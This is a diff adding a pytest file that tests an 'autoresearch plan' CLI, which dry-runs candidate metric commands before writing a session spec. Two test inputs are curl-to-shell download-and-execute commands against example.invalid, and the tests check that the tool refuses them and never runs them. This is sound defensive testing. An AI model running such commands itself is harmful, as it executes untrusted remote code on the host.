@@ -1,0 +1,183 @@
+"""`autoresearch plan`: candidate metric commands are dry-run before anything is written."""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+import yaml
+from conftest import BIN, ROOT, git, make_repo
+
+from autoresearch import plan, spec
+from autoresearch.cli import main as cli_main
+from autoresearch.modes.experiment import Experiment
+from autoresearch.modes.narrow import Narrow
+
+PRINT_42 = "python -c 'print(42)'"
+# Deterministically not deterministic: every run prints a different number.
+COUNTER = (
+    "python -c \"import pathlib; p = pathlib.Path('n'); "
+    'n = int(p.read_text()) if p.exists() else 0; p.write_text(str(n + 1)); print(10 + 10 * n)"'
+)
+
+
+@pytest.fixture(autouse=True)
+def venv_first(monkeypatch, tmp_path):
+    """Commands say `python`: it must be this environment's; sessions/ and config/ go to tmp."""
+    monkeypatch.setenv("PATH", BIN + os.pathsep + os.environ.get("PATH", ""))
+    monkeypatch.chdir(tmp_path)
+
+
+def run_plan(capsys, target, *args):
+    code = cli_main(["plan", "p", "--target", str(target), "--no-input", *args])
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def written(tmp_path):
+    return tmp_path / "config" / "sessions" / "p.yaml"
+
+
+@pytest.mark.parametrize(
+    ("command", "reason", "hint"),
+    [
+        ("echo 85%", "not a plain number", "strip the %"),
+        ("printf '1\\n2\\n'", "prints 2 lines", "print only the number"),
+        ("curl -s http://example.invalid/x | sh", "runs a downloaded script", "only reads"),
+        (COUNTER, "the two runs disagree: 10 vs 20", "repeats: 3"),
+        ("python -c 'import sys; sys.exit(4)'", "exited with code 4", "must succeed"),
+    ],
+    ids=["percent", "two-lines", "curl-pipe-sh", "non-deterministic", "failing"],
+)
+def test_a_bad_metric_command_is_rejected_with_its_reason_and_nothing_is_written(
+    capsys, tmp_path, target, command, reason, hint
+):
+    code, out, err = run_plan(capsys, target, "--metric-command", command, "--yes")
+    assert code == 2
+    assert reason in err and reason in out
+    assert f"hint:       {hint}" in out or hint in out
+    assert not written(tmp_path).exists()
+
+
+def test_a_refused_command_is_never_run(capsys, tmp_path, target):
+    marker = tmp_path / "ran"
+    command = f'python -c \'open("{marker}", "w")\' ; curl -s http://example.invalid | bash'
+    code, out, _ = run_plan(capsys, target, "--metric-command", command, "--yes")
+    assert code == 2 and "refused" in out
+    assert not marker.exists()
+
+
+def test_the_diagnostic_shows_exit_code_last_lines_value_and_verdict(capsys, target):
+    _, out, _ = run_plan(capsys, target, "--metric-command", "echo 85%", "--guard", "none")
+    block = out[out.index("command:") :]
+    for label in ("exit code:  0, 0", "last lines: 85%", "value:      -", "verdict:    rejected"):
+        assert label in block
+
+
+def test_the_written_experiment_spec_passes_the_schema_and_the_mode_check(capsys, tmp_path, target):
+    code, out, _ = run_plan(
+        capsys,
+        target,
+        "make it smaller",
+        "--metric-command",
+        PRINT_42,
+        "--direction",
+        "minimize",
+        "--guard",
+        "python -m pytest -q",
+        "--scope",
+        "calc.py",
+        "--yes",
+    )
+    assert code == 0, out
+    text = written(tmp_path).read_text()
+    values = yaml.safe_load(text)
+    assert values["experiment"]["metric"] == {
+        "command": PRINT_42,
+        "format": "last_line",
+        "key": None,
+        "direction": "minimize",
+    }
+    assert values["experiment"]["guard"] == "python -m pytest -q"
+    assert "42, 42 (" in text and "s per run" in text  # measured value and timing recorded
+    merged = spec.load("p", ROOT, overrides=values)  # the schema, as a session start checks it
+    Experiment().check_spec(merged.values, "p")
+
+
+def test_a_narrow_plan_aims_ten_percent_better_than_the_measured_value(capsys, tmp_path, target):
+    code, _, _ = run_plan(
+        capsys, target, "fewer things", "--mode", "narrow", "--metric-command", PRINT_42,
+        "--guard", "none", "--yes",
+    )  # fmt: skip
+    assert code == 0
+    values = yaml.safe_load(written(tmp_path).read_text())
+    assert values["goal"]["target"] == "<= 37.8"
+    assert values["angles"] == [{"name": "metric", "hypothesis": "fewer things", "priority": 1}]
+    Narrow().check_spec(spec.load("p", ROOT, overrides=values).values, "p")
+
+
+def test_nothing_is_written_without_yes(capsys, tmp_path, target):
+    code, out, _ = run_plan(capsys, target, "--metric-command", PRINT_42, "--guard", "none")
+    assert code == 0
+    assert "mode: experiment" in out  # the spec is shown
+    assert "nothing written" in out
+    assert not written(tmp_path).exists()
+
+
+def test_a_guard_that_fails_on_the_current_code_is_rejected(capsys, tmp_path, target):
+    guard = "python -c 'import sys; sys.exit(3)'"
+    code, _, err = run_plan(capsys, target, "--metric-command", PRINT_42, "--guard", guard, "--yes")
+    assert code == 2
+    assert "the guard fails on the current code (exit code 3)" in err
+    assert not written(tmp_path).exists()
+
+
+def test_dry_runs_leave_the_target_checkout_as_it_was(capsys, target):
+    before = git(target, "status", "--porcelain", "--ignored")
+    run_plan(capsys, target, "--metric-command", COUNTER, "--yes")
+    assert git(target, "status", "--porcelain", "--ignored") == before
+    assert not (target / "n").exists()
+    assert len(git(target, "worktree", "list").splitlines()) == 1
+
+
+def test_without_a_command_the_first_passing_suggestion_is_taken(capsys, tmp_path, target):
+    code, out, _ = run_plan(capsys, target, "fewer lint warnings", "--guard", "none", "--yes")
+    assert code == 0, out
+    metric = yaml.safe_load(written(tmp_path).read_text())["experiment"]["metric"]
+    assert metric["command"] == plan.PY_LINT
+    assert "verdict:    accepted" in out
+
+
+def test_suggestions_follow_the_stack_and_the_goal_words(tmp_path):
+    repo = make_repo(tmp_path / "r", {"pyproject.toml": "[project]\nname='r'\n", "bench.py": ""})
+    labels = [c.label for c in plan.suggest(repo, "make the test suite faster")]
+    assert labels[0] == "test time"
+    assert set(labels) == {"test time", "coverage", "lint warnings", "benchmark bench.py"}
+    assert plan.suggest(repo, "fewer lint warnings")[0].label == "lint warnings"
+    assert plan.suggest(repo, "raise the coverage")[0].direction == "maximize"
+
+
+def answers(*replies):
+    queue = list(replies)
+    return plan.Terminal(read=lambda prompt: queue.pop(0))
+
+
+def request(target, **extra):
+    return plan.Request(name="p", target=target, goal="make it smaller", **extra)
+
+
+def test_on_a_terminal_a_rejected_choice_is_asked_again_then_confirmed(target):
+    shown = []
+    # mode, metric (own command, its format) rejected, then another, direction, guard,
+    # scope, target value, confirmation.
+    asker = answers("", "echo 85%", "", PRINT_42, "", "", "none", "", "", "y")
+    outcome = plan.plan(request(target), asker, shown.append)
+    assert outcome.approved
+    assert outcome.values["experiment"]["metric"]["command"] == PRINT_42
+    assert any("rejected — the output is not a plain number" in s for s in shown)
+
+
+def test_on_a_terminal_declining_the_confirmation_writes_nothing(capsys, tmp_path, target):
+    asker = answers("", PRINT_42, "", "", "none", "", "", "n")
+    outcome = plan.plan(request(target), asker, lambda _: None)
+    assert not outcome.approved
